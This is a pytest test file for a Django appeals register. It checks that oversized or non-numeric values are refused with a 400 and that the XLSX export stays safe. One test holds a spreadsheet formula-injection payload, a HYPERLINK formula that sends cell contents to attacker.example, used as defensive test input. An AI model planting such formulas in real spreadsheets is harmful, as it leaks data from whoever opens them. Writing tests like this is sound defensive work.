"""A value too large for its column, a number that is not one, and a non-numeric version, item or
year are refused with a message — never saved (where they used to make the register, its XLSX and
the API answer 500 for every reader)."""

from decimal import Decimal

import pytest

from pramoen.appeals import services
from pramoen.appeals.models import AppealCase
from pramoen.core.errors import ApplicationError

pytestmark = pytest.mark.django_db


def _draft(year, personas) -> AppealCase:
    return services.appeal_create(
        actor=personas["bangrak.staff"],
        category=year["categories"]["correct-value"],
        assignment=year["a"]["1.1"],
        reason="ค่าที่รายงานผิด",
        period=year["h1"],
        requested_value=Decimal(3),
    )


@pytest.mark.parametrize("value", ["1000000000000000", "1e99999", "NaN", "abc"])
def test_a_requested_value_that_does_not_fit_is_refused_and_the_register_still_answers(
    year, personas, client_for, value
):
    case = _draft(year, personas)
    staff = client_for("bangrak.staff")
    response = staff.post(
        f"/appeals/{case.number}/update/",
        {"version": case.version, "reason": "x", "period": "H1", "requested_value": value},
    )
    assert response.status_code == 400
    assert "requested value" in response.content.decode() or "ค่าที่ขอ" in response.content.decode()
    case.refresh_from_db()
    assert case.requested_value == 3
    for reader in ("bangrak.staff", "eval.officer"):
        client = client_for(reader)
        for url in ("/appeals/?fy=2567", "/appeals/?fy=2567&format=xlsx", "/api/v1/appeals/"):
            assert client.get(url).status_code == 200, (reader, url)


def test_the_services_refuse_a_value_too_large_whoever_calls_them(year, personas):
    from django.utils import translation

    with translation.override("en"), pytest.raises(ApplicationError, match="too large"):
        services.appeal_create(
            actor=personas["bangrak.staff"],
            category=year["categories"]["correct-value"],
            assignment=year["a"]["1.1"],
            reason="x",
            period=year["h1"],
            requested_value=Decimal("1e15"),
        )
    assert AppealCase.objects.count() == 0


@pytest.mark.parametrize(
    ("action", "data"),
    [
        ("update", {"version": "abc", "reason": "x", "period": "H1", "requested_value": "3"}),
        ("update", {"version": "99999999999999999999", "reason": "x", "period": "H1"}),
        ("item-remove", {"item": "abc"}),
        ("evidence-remove", {"evidence": "²"}),
    ],
)
def test_a_malformed_number_in_a_form_is_a_400(year, personas, client_for, action, data):
    case = _draft(year, personas)
    response = client_for("bangrak.staff").post(f"/appeals/{case.number}/{action}/", data)
    assert response.status_code == 400


def test_another_agency_is_still_refused(year, personas, client_for):
    case = _draft(year, personas)
    response = client_for("sathon.staff").post(
        f"/appeals/{case.number}/update/", {"version": "abc", "reason": "x"}
    )
    assert response.status_code in {403, 404}


@pytest.mark.parametrize("fy", ["99999999999999999999", "²", "abc"])
def test_a_malformed_year_in_the_address_is_ignored(year, client_for, fy):
    assert client_for("bangrak.staff").get(f"/appeals/?fy={fy}").status_code == 200
    assert client_for("bangrak.staff").get(f"/appeals/rules/?fy={fy}").status_code == 200


def test_a_formula_in_a_reason_is_text_in_the_register_xlsx(year, personas, client_for):
    import io

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://attacker.example/?"&A1,"คลิก")'
    services.appeal_create(
        actor=personas["bangrak.staff"],
        category=year["categories"]["correct-value"],
        assignment=year["a"]["1.1"],
        reason=formula,
        period=year["h1"],
        requested_value=Decimal(3),
    )
    response = client_for("eval.officer").get("/appeals/?fy=2567&format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
